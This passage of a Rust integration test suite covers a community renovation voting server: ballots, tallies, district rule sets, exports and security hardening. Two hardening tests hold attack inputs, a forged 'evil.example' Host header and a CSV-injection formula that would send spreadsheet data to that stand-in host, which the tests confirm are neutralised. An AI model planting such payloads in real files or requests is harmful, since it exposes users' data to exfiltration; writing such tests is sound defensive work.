          "cost_yuan": 100000.0, "share_per_household_yuan": null, "owners_decision": true,
          "matter": "ordinary", "position": 0, "electorate": { "scope": "compound" } },
    ]);
    let project = json!({ "id": p, "name": "综合整治", "kind": "comprehensive",
        "survey_opens": linli_tests::day(-1), "survey_closes": linli_tests::day(5),
        "grace_days": 2, "show_running_results": true });
    let mut view = json!({
        "project": project,
        "compound": { "id": fx.compound, "name": "幸福里" },
        "household": { "id": h1, "building": "1号楼", "unit": "1单元", "door": "101", "area_m2": 80.0 },
        "menu": menu,
        "open": true,
        "my_ballot": null,
    });
    let mut expected = view.clone();
    expected["token"] = json!(typed.token);
    expected["expires_at"] = json!(typed.expires_at);
    assert_eq!(login.1, expected);
    let token = typed.token;

    // A ballot: accepted with its receipt; refused with code, message and field, and nothing else.
    let now = now_ms();
    let id = Uuid::now_v7();
    let got = fx.vote(&token, id, true, &[i1], now).await;
    let answer: api::BallotAnswer = round_trips(&got.1);
    let receipt = answer.receipt.unwrap();
    assert_eq!(
        got.1,
        json!({ "status": "accepted", "receipt": { "ballot_id": id, "door": "101", "agree": true,
            "items": [i1], "cast_at_ms": now, "received_at_ms": receipt.received_at_ms } })
    );
    let off = fx.vote(&token, Uuid::now_v7(), true, &[id], now).await;
    let refused: api::BallotAnswer = round_trips(&off.1);
    assert_eq!(
        off.1,
        json!({ "status": "rejected", "code": "not_in_project", "message": refused.message.unwrap(),
            "field": "items[0]" })
    );

    // `me`: the view without the token, with the household's own ballot.
    let me = fx.get(&token, "/api/vote/me").await;
    let typed: api::VoteMeResponse = round_trips(&me.1);
    view["my_ballot"] = json!({ "id": id, "agree": true, "items": [i1], "cast_at_ms": now,
        "channel": "resident", "received": true });
    view["expires_at"] = json!(typed.expires_at);
    assert_eq!(me.1, view);

    // Results: the core's tally at the top level, then `households_total`, `project` and `menu` — built
    // here the way the server built them before they were typed, from the same merged state.
    let mut replica = linli_core::Replica::new();
    for op in fx.staff.pull_all(0).await.unwrap() {
        replica.apply(&op);
    }
    let tally = replica
        .tally(COMMUNITY, p, &linli_core::RuleSet::default())
        .unwrap();
    let with = |project: Value| {
        let mut v = serde_json::to_value(&tally).unwrap();
        let m = v.as_object_mut().unwrap();
        m.insert("households_total".into(), json!(3));
        m.insert("project".into(), project);
        m.insert("menu".into(), menu.clone());
        v
    };
    let res = fx.get(&token, "/api/vote/results").await;
    assert_eq!(res.0, 200, "{}", res.1);
    round_trips::<api::VoteResults>(&res.1);
    assert_eq!(res.1, with(project.clone()));
    assert_eq!(
        res.1["coverage"],
        json!({ "responded": 1, "total": 3, "ratio": 1.0 / 3.0, "threshold": { "num": 2, "den": 3, "strict": false }, "met": false })
    );
    assert_eq!(
        res.1["agreement"],
        json!({ "households": 1, "households_ratio": 1.0 / 3.0, "area_m2": 80.0,
            "area_ratio": 1.0 / 3.0, "households_ratio_of_responded": 1.0,
            "area_ratio_of_responded": 1.0 })
    );
    let staff = fx
        .get(&fx.staff.token, &format!("/api/projects/{p}/results"))
        .await;
    assert_eq!(staff.0, 200, "{}", staff.1);
    round_trips::<api::ProjectResults>(&staff.1);
    let fields = replica.project(COMMUNITY, p).unwrap();
    let mut staff_project = serde_json::to_value(&fields).unwrap();
    staff_project["id"] = json!(p);
    assert_eq!(staff_project["year_built"], 1990);
    assert_eq!(staff_project["notice_posted"], Value::Null);
    assert_eq!(staff.1, with(staff_project));
}

#[tokio::test]
async fn running_results_wait_for_enough_answers() {
    // The default rule set: running results appear only once 10 households answered; 1 of 3 is not enough.
    let mut fx = fixture().await;
    let (shown, _) = fx.add_project((-1, 5, 2, true)).await;
    let h1 = fx.households[0];
    let t1 = fx
        .resident(&code_of(&fx.issue(shown, Some(vec![h1])).await, h1))
        .await;
    fx.vote(&t1, Uuid::now_v7(), false, &[], now_ms()).await;
    let res = fx.get(&t1, "/api/vote/results").await;
    assert_error(&res, 403, "results_not_available", None);
}

#[tokio::test]
async fn a_districts_rule_set_is_followed_by_json_csv_and_xlsx() {
    // Coverage 3/4 and 3 consultation rounds instead of 2/3 and 2: 2 of 3 households answered
    // meets 2/3 but not 3/4.
    let mut fx = fixture_rules((-1, 5, 2, false), |r| {
        r.renovation.coverage_min = linli_core::rules::Fraction {
            num: 3,
            den: 4,
            strict: false,
        };
        r.renovation.consultation_rounds_min = 3;
    })
    .await;
    // The app reads the same rule set from the server.
    let served: Value =
        fx.s.http
            .get(fx.s.url("/api/rules"))
            .send()
            .await
            .unwrap()
            .json()
            .await
            .unwrap();
    assert_eq!(
        served["renovation"]["coverage_min"],
        json!({"num": 3, "den": 4, "strict": false})
    );
    assert_eq!(served["renovation"]["consultation_rounds_min"], 3);
    let [h1, h2] = [fx.households[0], fx.households[1]];
    let now = now_ms();
    let (_, b1) = fx.d.ballot(
        fx.project,
        h1,
        true,
        vec![fx.items[0]],
        now - 1000,
        BallotChannel::Staff,
    );
    let (_, b2) = fx.d.ballot(
        fx.project,
        h2,
        false,
        vec![],
        now - 1000,
        BallotChannel::Staff,
    );
    push_ok(&fx.staff, &fx.d, vec![b1, b2]).await;
    let res = fx
        .get(
            &fx.staff.token,
            &format!("/api/projects/{}/results", fx.project),
        )
        .await;
    assert_eq!(res.0, 200, "{}", res.1);
    assert_eq!(res.1["coverage"]["responded"], 2);
    assert_eq!(res.1["coverage"]["met"], false);
    assert_eq!(
        res.1["coverage"]["threshold"],
        json!({"num": 3, "den": 4, "strict": false})
    );
    for ext in ["csv", "xlsx"] {
        let resp =
            fx.s.http
                .get(fx.s.url(&format!("/api/projects/{}/results.{ext}", fx.project)))
                .bearer_auth(&fx.staff.token)
                .send()
                .await
                .unwrap();
        assert_eq!(resp.status(), 200);
        let bytes = resp.bytes().await.unwrap();
        let text = if ext == "csv" {
            String::from_utf8(bytes.to_vec()).unwrap()
        } else {
            xlsx_text(&bytes)
        };
        assert!(
            text.contains("覆盖率达到四分之三 (Coverage meets three quarters)"),
            "{ext}: {text}"
        );
        assert!(
            // The coverage line follows the district (art. 278's own two thirds may still be named).
            !text.contains("覆盖率达到三分之二") && !text.contains("Coverage meets two thirds"),
            "{ext}: {text}"
        );
        assert!(
            text.contains("(至少需3轮 (at least 3 needed))"),
            "{ext}: {text}"
        );
        assert!(text.contains("0 / 3 ✗"), "{ext}: {text}");
    }
}

#[tokio::test]
async fn a_reprint_of_a_buildings_forms_reissues_its_codes() {
    // Paper forms for the whole building: h1 already has a code, h2 and h3 none. With `reissue`, all three
    // get a new code in one request and h1's old one stops working (codes are stored hashed).
    let fx = fixture().await;
    let [h1, h2, h3] = [fx.households[0], fx.households[1], fx.households[2]];
    let old = code_of(&fx.issue(fx.project, Some(vec![h1])).await, h1);
    let got = fx
        .post(
            &fx.staff.token,
            &format!("/api/projects/{}/codes", fx.project),
            json!({ "households": [h1, h2, h3], "reissue": true }),
        )
        .await;
    assert_eq!(got.0, 200, "{}", got.1);
    let codes = got.1["codes"].as_array().unwrap().clone();
    assert_eq!(codes.len(), 3);
    let new = code_of(&codes, h1);
    assert_ne!(new, old);
    let refused = fx.vote_login(&old, None).await;
    assert_error(&refused, 401, "code_revoked", None);
    fx.resident(&new).await;
    let list = fx
        .get(
            &fx.staff.token,
            &format!("/api/projects/{}/codes", fx.project),
        )
        .await;
    assert!(
        list.1
            .as_array()
            .unwrap()
            .iter()
            .all(|r| r["status"] == "active"),
        "{}",
        list.1
    );
}

#[tokio::test]
async fn slip_links_come_from_the_configured_url_never_the_host_header() {
    // Hardening: a forged Host must not put another site on printed slips and QR codes.
    let fx = fixture_rules((-1, 5, 2, false), |_| {}).await;
    let h1 = fx.households[0];
    let got = status_json(
        fx.s.http
            .post(fx.s.url(&format!("/api/projects/{}/codes", fx.project)))
            .bearer_auth(&fx.staff.token)
            .header("Host", "evil.example")
            .header("X-Forwarded-Proto", "https")
            .json(&json!({ "households": [h1] }))
            .send()
            .await
            .unwrap(),
    )
    .await;
    assert_eq!(got.0, 200, "{}", got.1);
    let url = got.1["codes"][0]["url"].as_str().unwrap().to_string();
    assert!(url.starts_with(&format!("{}/v/", fx.s.url)), "{url}");
    assert!(!got.1.to_string().contains("evil.example"));

    // With LINLI_PUBLIC_URL set, the links use it.
    let s = start_with(|c| c.public_url = Some("https://linli.example.org".into())).await;
    let staff = s.client("alice").await;
    let mut d = Device::new("alice", COMMUNITY);
    let (c, c_op) = d.compound("幸福里");
    let (b, b_op) = d.building(c, "1号楼");
    let (u, u_op) = d.unit(b, "1单元");
    let (h, h_op) = d.household(u, "101", 60.0);
    let (p, p_op) = d.project(c, "综合整治", -1, 5, 0, false);
    push_ok(&staff, &d, vec![c_op, b_op, u_op, h_op, p_op]).await;
    let got = status_json(
        s.http
            .post(s.url(&format!("/api/projects/{p}/codes")))
            .bearer_auth(&staff.token)
            .header("Host", "evil.example")
            .json(&json!({ "households": [h] }))
            .send()
            .await
            .unwrap(),
    )
    .await;
    assert_eq!(got.0, 200, "{}", got.1);
    assert!(
        got.1["codes"][0]["url"]
            .as_str()
            .unwrap()
            .starts_with("https://linli.example.org/v/"),
        "{}",
        got.1
    );
}

#[tokio::test]
async fn a_formula_in_a_name_is_text_in_the_csv_and_the_xlsx() {
    // Hardening: CSV injection. A project named like a spreadsheet formula.
    let mut fx = fixture().await;
    let evil = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")";
    let (p, p_op) = fx.d.project(fx.compound, evil, -1, 5, 0, false);
    push_ok(&fx.staff, &fx.d, vec![p_op]).await;
    let resp =
        fx.s.http
            .get(fx.s.url(&format!("/api/projects/{p}/results.csv")))
            .bearer_auth(&fx.staff.token)
            .send()
            .await
            .unwrap();
    let csv = String::from_utf8(resp.bytes().await.unwrap().to_vec()).unwrap();
    assert!(csv.contains("项目 (Project),\"'=HYPERLINK("), "{csv}");
    assert!(
        !csv.contains(",=HYPERLINK") && !csv.contains(",\"=HYPERLINK"),
        "{csv}"
    );
    // XLSX: the name is a string cell (in the shared strings), never a formula (`<f>`).
    let resp =
        fx.s.http
            .get(fx.s.url(&format!("/api/projects/{p}/results.xlsx")))
            .bearer_auth(&fx.staff.token)
            .send()
            .await
            .unwrap();
    let bytes = resp.bytes().await.unwrap();
    assert!(xlsx_text(&bytes).contains("=HYPERLINK("));
    use std::io::Read;
    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(bytes.to_vec())).unwrap();
    let mut sheet = String::new();
    zip.by_name("xl/worksheets/sheet1.xml")
        .unwrap()
        .read_to_string(&mut sheet)
        .unwrap();
    assert!(!sheet.contains("<f>"), "{sheet}");
}

#[tokio::test]
async fn a_staff_push_cannot_pass_for_a_residents_own_ballot() {
    // Hardening: the channel comes from the token. A staff device sending `channel: resident` is refused
    // whole, nothing stored.
    let mut fx = fixture().await;
    let h1 = fx.households[0];
    let (_, forged) = fx.d.ballot(
        fx.project,
        h1,
        true,
        vec![],
        now_ms() - 1000,
        BallotChannel::Resident,
    );
    let req = fx.d.push_request(vec![forged]);
    let got = fx
        .post(
            &fx.staff.token,
            "/api/sync/push",
            serde_json::to_value(&req).unwrap(),
        )
        .await;
    assert_error(&got, 403, "forbidden", Some("ops[0].body.channel"));
    assert!(fx.pulled_ballots().await.is_empty(), "nothing stored");
}

#[tokio::test]
async fn a_resident_logs_out() {
    let fx = fixture().await;
    let h1 = fx.households[0];
    let token = fx
        .resident(&code_of(&fx.issue(fx.project, Some(vec![h1])).await, h1))
        .await;
    assert_eq!(fx.get(&token, "/api/vote/me").await.0, 200);
    let out = fx.post(&token, "/api/vote/logout", json!({})).await;
    assert_eq!(out.0, 200, "{}", out.1);
    assert_eq!(fx.get(&token, "/api/vote/me").await.0, 401);
}

#[tokio::test]
async fn after_the_close_results_wait_for_the_grace_period() {
    // Hardening: closed yesterday with 5 days' grace: ballots cast before the close may still arrive, so
    // residents do not see the outcome yet (they could otherwise vote knowing it).
    let mut fx = fixture().await;
    let (p, _) = fx.add_project((-10, -1, 5, true)).await;
    let h1 = fx.households[0];
    let token = fx
        .resident(&code_of(&fx.issue(p, Some(vec![h1])).await, h1))
        .await;
    let res = fx.get(&token, "/api/vote/results").await;
    assert_error(&res, 403, "results_not_available", None);
    let until = linli_tests::day(4).to_string();
    assert!(
        res.1["error"]["message"].as_str().unwrap().contains(&until),
        "{}",
        res.1
    );
}

#[tokio::test]
async fn after_the_close_a_ballot_is_believed_only_from_a_login_not_in_touch_since() {
    // Hardening (issue 7.6): survey closed at midnight, grace 5 days. An honest phone that logged in two
    // days ago and answered offline sends its answer now: accepted. A login in touch since the close
    // (it read its view; or logged in only now) posting an answer "cast" before the close: refused,
    // so nobody changes a vote after seeing how it stands.
    let mut fx = fixture().await;
    let (p, _) = fx.add_project((-10, -1, 5, false)).await;
    let h = fx.households[0];
    let code = code_of(&fx.issue(p, Some(vec![h])).await, h);
    let before_close =
        linli_core::renovation::start_of_day_ms(linli_tests::day(-1)) as u64 + 10 * 3_600_000;
    let token = fx.resident(&code).await;
    // The login happened two days ago, offline ever since (set in the database: the server's clock
    // cannot be turned back).
    let two_days_ago = now_ms() as i64 - 2 * 86_400_000;
    linli_tests::off_runtime(|| {
        fx.s.running.state.db.write(|c| {
            c.execute(
                "UPDATE resident_sessions SET created_at_ms = ?1",
                linli_server::args![two_days_ago],
            )
        })
    })
    .unwrap();
    let honest = fx
        .vote(&token, Uuid::now_v7(), true, &[], before_close)
        .await;
    assert_eq!(honest.1["status"], "accepted", "{}", honest.1);
    // The same phone, now online, reads its view (a contact after the close) and tries to flip its answer.
    assert_eq!(fx.get(&token, "/api/vote/me").await.0, 200);
    let flip = fx
        .vote(&token, Uuid::now_v7(), false, &[], before_close)
        .await;
    assert_eq!(flip.1["status"], "rejected", "{}", flip.1);
    assert_eq!(flip.1["code"], "contacted_since_close");
    assert_eq!(flip.1["field"], "cast_at_ms");
    let msg = flip.1["message"].as_str().unwrap();
    assert!(
        msg.contains(&linli_tests::day(-1).to_string()) && msg.contains("联系过服务器"),
        "{msg}"
    );
    // A login opened after the close, backdating: refused too.
    let late_login = fx.resident(&code).await;
    let backdated = fx
        .vote(&late_login, Uuid::now_v7(), false, &[], before_close)
        .await;
    assert_eq!(
        backdated.1["code"], "contacted_since_close",
        "{}",
        backdated.1
    );
    let ballots = fx.pulled_ballots().await;
    assert_eq!(ballots.len(), 1, "only the honest answer is stored");
    assert!(matches!(&ballots[0].body, Body::BallotCast(b) if b.agree));

    // Staff devices by the same rule: a staff login in touch since the close (it logged in now) cannot
    // record a paper ballot as cast before the close …
    let h2 = fx.households[1];
    let (_, op) =
        fx.d.ballot(p, h2, true, vec![], before_close, BallotChannel::Staff);
    let got = fx.staff.push(&fx.d.push_request(vec![op])).await.unwrap();
    assert_eq!(
        got.results[0].code.as_deref(),
        Some("contacted_since_close"),
        "{got:?}"
    );
    // … while a device whose login has been offline since before the close can (its session's contact
    // set back; the server trusts a cached session for 3 s, so wait that out).
    linli_tests::off_runtime(|| {
        fx.s.running.state.db.write(|c| {
            c.execute(
                "UPDATE sessions SET created_at_ms = ?1, last_contact_ms = NULL",
                linli_server::args![two_days_ago],
            )
        })
    })
    .unwrap();
    tokio::time::sleep(std::time::Duration::from_millis(
        linli_server::auth::tokens::SESSION_CACHE_MS + 200,
    ))
    .await;
    let h3 = fx.households[2];
    let (_, op) =
        fx.d.ballot(p, h3, true, vec![], before_close, BallotChannel::Staff);
    let got = fx.staff.push(&fx.d.push_request(vec![op])).await.unwrap();
    assert_eq!(
        got.results[0].status,
        linli_core::protocol::OpStatus::Accepted,
        "{got:?}"
    );
}

#[tokio::test]
async fn a_resident_login_cannot_flood_ballots_or_send_megabytes() {
    // Hardening (issue 7.5): one login's ballots go through the single writer; after 20 in a short time
    // the next waits (429 with Retry-After); another household's login is not slowed. A resident's body
    // is at most 16 KB (the longest menu's ballot is about 3 KB): 190,000 item ids are refused unread.
    let fx = fixture().await;
    let (h1, h2) = (fx.households[0], fx.households[1]);
    let codes = fx.issue(fx.project, Some(vec![h1, h2])).await;
    let t1 = fx.resident(&code_of(&codes, h1)).await;
    let t2 = fx.resident(&code_of(&codes, h2)).await;
    for i in 0..20 {
        let got = fx
            .vote(&t1, Uuid::now_v7(), i % 2 == 0, &[], now_ms())
            .await;
        assert_eq!(got.1["status"], "accepted", "ballot {i}: {}", got.1);
    }
    let r = fx
        .s
        .http
        .post(fx.s.url("/api/vote/ballot"))
        .bearer_auth(&t1)
        .json(&json!({ "id": Uuid::now_v7(), "agree": true, "items": [], "cast_at_ms": now_ms() }))
        .send()
        .await
        .unwrap();
    assert_eq!(r.headers()["retry-after"], "1");
    assert_error(&status_json(r).await, 429, "too_many_requests", None);
    let other = fx.vote(&t2, Uuid::now_v7(), true, &[], now_ms()).await;
    assert_eq!(other.1["status"], "accepted", "{}", other.1);

    let huge: Vec<Uuid> = (0..190_000).map(|_| Uuid::nil()).collect();
    let got = fx.vote(&t2, Uuid::now_v7(), true, &huge, now_ms()).await;
    assert_error(&got, 413, "batch_too_large", None);
    assert_eq!(
        fx.pulled_ballots().await.len(),
        21,
        "20 + 1 stored, nothing else"
    );
}
